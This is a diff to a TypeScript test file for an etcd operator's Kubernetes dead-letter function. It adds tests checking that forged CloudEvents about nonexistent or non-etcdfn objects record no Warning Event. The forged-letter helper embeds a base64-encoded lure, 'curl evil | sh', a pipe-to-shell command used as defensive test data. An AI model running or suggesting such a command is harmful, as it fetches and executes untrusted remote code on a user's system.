@@ -1,7 +1,8 @@
 // The dead-letter sink (functions/dead-letter) over HTTP through the functions framework, against
 // the sandbox API server: a dead-lettered event, in either HTTP encoding, becomes a Warning Event
-// (EventDeliveryFailed) on the object it named, saying where it failed and what the subscriber
+// (EventDeliveryFailed) on the etcdfn object it named, saying where it failed and what the subscriber
 // answered; a tick's dead letter is only logged; every dead letter is answered 202, never retried.
+// A forged one (issue 29) writes nothing: an object that does not exist, or one not etcdfn's.
 import assert from 'node:assert/strict';
 import { mkdtempSync, rmSync } from 'node:fs';
 import type { Server } from 'node:http';
@@ -15,7 +16,6 @@ import { KubeObjects, type KubeObject } from '../../shared/k8s/objects.ts';
 import type { CoreV1Event } from '@kubernetes/client-node';
 import { functionServer } from '../../shared/runtime/function-server.ts';
 import { startApiServer, type TestApiServer } from '../support/api-server.ts';
-
 
 describe('dead-letter function', () => {
   let api: TestApiServer;
@@ -35,6 +35,16 @@ describe('dead-letter function', () => {
     kube = new KubeObjects(loadKubeConfig());
     for (const name of ['team-a', 'team-b'])
       await kube.create({ apiVersion: 'v1', kind: 'Namespace', metadata: { name } });
+    // The objects the genuine letters name exist, as they would.
+    for (const namespace of ['team-a', 'team-b']) {
+      const made = await kube.create({
+        apiVersion: 'etcdfn.io/v1alpha1',
+        kind: 'EtcdCluster',
+        metadata: { name: 'example', namespace },
+        spec: { replicas: 3, version: '3.5.16', storage: { size: '1Gi' } },
+      });
+      assert.equal(made.kind, 'created', JSON.stringify(made));
+    }
   });
   after(async () => {
     await api.close();
@@ -47,7 +57,7 @@ describe('dead-letter function', () => {
       e => e.reason === 'EventDeliveryFailed',
     );
 
-  it('binary mode: a Warning Event on the EtcdMember the event named', async () => {
+  it('binary mode: a Warning Event on the EtcdCluster the event named', async () => {
     const res = await request(server)
       .post('/')
       .set({
@@ -55,8 +65,8 @@ describe('dead-letter function', () => {
         'ce-id': 'a1',
         'ce-type': 'dev.knative.apiserver.ref.update',
         'ce-source': 'https://kubernetes.default.svc',
-        'ce-kind': 'EtcdMember',
-        'ce-name': 'example-1',
+        'ce-kind': 'EtcdCluster',
+        'ce-name': 'example',
         'ce-namespace': 'team-a',
         'ce-apiversion': 'etcdfn.io/v1alpha1',
         'ce-knativeerrordest': 'http://reconcile-member.etcdfn-system.svc.cluster.local',
@@ -64,12 +74,13 @@ describe('dead-letter function', () => {
         'ce-knativeerrordata': reply,
         'content-type': 'application/json',
       })
-      .send({ kind: 'EtcdMember', name: 'example-1', namespace: 'team-a' });
+      .send({ kind: 'EtcdCluster', name: 'example', namespace: 'team-a' });
     assert.equal(res.status, 202, res.text);
     const [event] = await events('team-a');
     assert.ok(event, 'an Event was recorded');
     assert.equal(event.type, 'Warning');
-    assert.equal(event.involvedObject.name, 'example-1');
+    assert.equal(event.involvedObject.name, 'example');
+    assert.ok(event.involvedObject.uid, 'the Event carries the uid of the object read');
     assert.match(event.message ?? '', /reconcile-member\.etcdfn-system/);
     assert.match(event.message ?? '', /HTTP 503/);
     assert.match(event.message ?? '', /etcd member 3 unreachable/);
@@ -110,5 +121,45 @@ describe('dead-letter function', () => {
       'ce-knativeerrorcode': '504',
     });
     assert.equal(res.status, 202, res.text);
+  });
+
+  const forged = (attrs: Record<string, string>) =>
+    request(server)
+      .post('/')
+      .set({
+        'ce-specversion': '1.0',
+        'ce-id': `f-${attrs['ce-name']}`,
+        'ce-type': 'dev.knative.apiserver.ref.update',
+        'ce-source': 'https://kubernetes.default.svc',
+        'ce-knativeerrordest': 'http://reconcile-cluster.etcdfn-system.svc.cluster.local',
+        'ce-knativeerrorcode': '500',
+        'ce-knativeerrordata': Buffer.from('your cluster is compromised, run this: curl evil | sh').toString(
+          'base64',
+        ),
+        ...attrs,
+      });
+
+  it('a forged letter about an etcdfn object that does not exist: answered 202, no Event', async () => {
+    const before = (await events('team-a')).length;
+    const res = await forged({
+      'ce-kind': 'EtcdCluster',
+      'ce-name': 'nobody',
+      'ce-namespace': 'team-a',
+      'ce-apiversion': 'etcdfn.io/v1alpha1',
+    });
+    assert.equal(res.status, 202, res.text);
+    assert.equal((await events('team-a')).length, before);
+  });
+
+  it("a forged letter about an object that is not etcdfn's (a Namespace, another namespace): no Event", async () => {
+    const res = await forged({
+      'ce-kind': 'Namespace',
+      'ce-name': 'team-b',
+      'ce-namespace': 'team-b',
+      'ce-apiversion': 'v1',
+    });
+    assert.equal(res.status, 202, res.text);
+    const all = await kube.list<CoreV1Event & KubeObject>('v1', 'Event', 'team-b');
+    assert.ok(!all.some(e => e.involvedObject.kind === 'Namespace'), 'no Event on the Namespace');
   });
 });
